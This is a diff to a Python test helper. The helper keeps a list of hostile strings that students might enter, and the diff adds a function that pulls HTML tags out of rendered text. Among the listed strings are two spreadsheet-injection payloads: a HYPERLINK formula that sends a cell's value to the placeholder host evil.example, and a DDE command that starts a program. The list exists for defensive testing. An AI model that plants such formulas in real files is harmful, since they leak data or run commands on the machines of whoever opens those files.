@@ -1,5 +1,7 @@
 """What a student may call themselves, a file, an exception: one list, tried wherever text of theirs goes."""
 
+from html.parser import HTMLParser
+
 NASTY = (
     '=HYPERLINK("http://evil.example/"&A1,"see")',
     "=cmd|' /C calc'!A0",
@@ -81,3 +83,12 @@ NASTY = (
     "",
     " ",
 )
+
+
+def tags(text: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
+    """The tags of a page with their attributes: text that was meant as text leaves none."""
+    found: list[tuple[str, list[tuple[str, str | None]]]] = []
+    parser = HTMLParser()
+    parser.handle_starttag = lambda tag, attrs: found.append((tag, attrs))
+    parser.feed(text)
+    return found
